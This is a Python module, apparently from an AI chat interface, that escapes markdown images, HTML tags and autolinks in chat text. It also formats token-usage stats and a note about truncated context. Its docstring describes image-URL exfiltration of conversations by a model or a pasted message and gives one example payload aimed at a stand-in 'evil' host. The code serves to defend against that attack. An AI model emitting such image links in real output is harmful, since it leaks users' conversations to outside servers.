"""Chat text made safe to show as markdown: no images and no raw HTML, so neither the model nor a
pasted message can make the browser fetch a URL (an image URL can carry the conversation away:
`![x](https://evil/?q=secret)`). Everything else (bold, lists, links, tables, code) renders as
before."""

from __future__ import annotations

import re

WORD_JOINER = "\u2060"  # invisible, and no line break: splits `![` or `<tag` inside code
_FENCE = re.compile(r" {0,3}(`{3,}|~{3,})")
_LINES = re.compile(r"(?<=\n)|(?<=\r)(?!\n)")  # markdown's line ends: \n, \r\n, \r
_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")  # what HTML, comments and autolinks start with


def safe_markdown(text: str) -> str:
    """`text` with every image (`![alt](url)`, `![alt][ref]`, `![alt]`) and every HTML tag or
    `<autolink>` shown as the characters typed instead of rendered.

    Outside code a backslash escapes the `[` of `![` and every `<` (invisible once rendered);
    inside code, where a backslash would show, a word joiner splits them. Code is found by
    simple rules (fences, one-line backtick and `$` spans) that only choose between the two:
    both stop the image or tag, so a wrong guess can leave a stray backslash, never an image."""
    out: list[str] = []
    fence: str | None = None  # the open code fence
    for line in _LINES.split(text):
        if fence is not None:
            out.append(_in_code(line))
            if re.fullmatch(rf" {{0,3}}{re.escape(fence)}{re.escape(fence[0])}*[ \t]*\r?\n?", line):
                fence = None
            continue
        opener = _FENCE.match(line)
        # (a backtick fence's info string has no backticks: "```a`b" is inline code)
        if opener and not (opener[1][0] == "`" and "`" in line[opener.end() :]):
            fence = opener[1]
            out.append(_in_code(line))
        else:
            out.append(_inline(line))
    return "".join(out)


def _in_code(code: str) -> str:
    return _TAG_START.sub("<" + WORD_JOINER, code.replace("![", "!" + WORD_JOINER + "["))


def _inline(line: str) -> str:
    """One line outside code blocks: code and math spans split invisibly, the rest escaped."""
    out: list[str] = []
    i = 0
    while i < len(line):
        ch = line[i]
        if ch == "\\":  # an escaped character stays as it is (an escaped `<` or `!` is text)
            out.append(line[i : i + 2])
            i += 2
        elif ch in "`$":  # a span closes with a run of exactly the same length
            run = ch * (len(line) - i - len(line[i:].lstrip(ch)))
            close = next(
                (m for m in re.finditer(rf"{re.escape(ch)}+", line[i + len(run) :]) if m[0] == run),
                None,
            )
            if close is None:
                out.append(run)
                i += len(run)
            else:
                end = i + len(run) + close.end()
                out.append(_in_code(line[i:end]))
                i = end
        elif ch == "!" and line.startswith("[", i + 1):
            out.append("!\\[")
            i += 2
        elif ch == "<":
            out.append("\\<")
            i += 1
        else:
            out.append(ch)
            i += 1
    return "".join(out)


def turn_stats(usage: dict | None, seconds: float, streaming_seconds: float | None = None) -> str:
    """One line under an answer: tokens in and out and the generation speed. The speed counts
    from the first token (`streaming_seconds`) when known, so the prompt's processing and the
    note lookup do not make a fast model look slow."""
    if not usage:
        return f"{seconds:.1f} s (the model reports no token counts)"
    read, wrote = usage.get("input_tokens", 0), usage.get("output_tokens", 0)
    line = f"{read:,} tokens in · {wrote:,} out · {seconds:.1f} s"
    span = streaming_seconds if streaming_seconds else seconds
    if wrote and span > 0:
        line += f" · {wrote / span:.1f} tokens/s"
    return line


def dropped_note(dropped: int, history: int) -> str:
    """Says how much of the conversation the model did not see ("" when it saw everything)."""
    if dropped <= 0:
        return ""
    kept = max(history - dropped, 0)
    plural = "s" if dropped != 1 else ""
    return (
        f"The {dropped} oldest message{plural} did not fit the model's context and were left "
        f"out: it saw {kept} of the {history} earlier messages."
    )
